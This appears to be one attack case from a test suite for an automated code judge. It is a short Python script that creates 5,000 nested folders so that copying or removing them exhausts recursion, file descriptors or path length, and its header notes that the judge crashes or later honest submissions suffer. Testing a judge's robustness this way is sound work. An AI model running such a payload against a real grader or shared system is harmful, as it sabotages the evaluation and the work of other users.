# attack: folders_five_thousand_deep
# kind: exhaust
# tries: nests folders so deep that whoever copies or removes them runs out of recursion, of descriptors or of path
# seen: the judge raises, or an honest submission after it suffers
# deserves: nothing
# extra: before 3.2a
# %%
import os

home = os.getcwd()
for _ in range(5_000):
    os.mkdir("d")
    os.chdir("d")
with open("bottom", "w") as file:
    file.write("nobody gets here by name")
os.chdir(home)
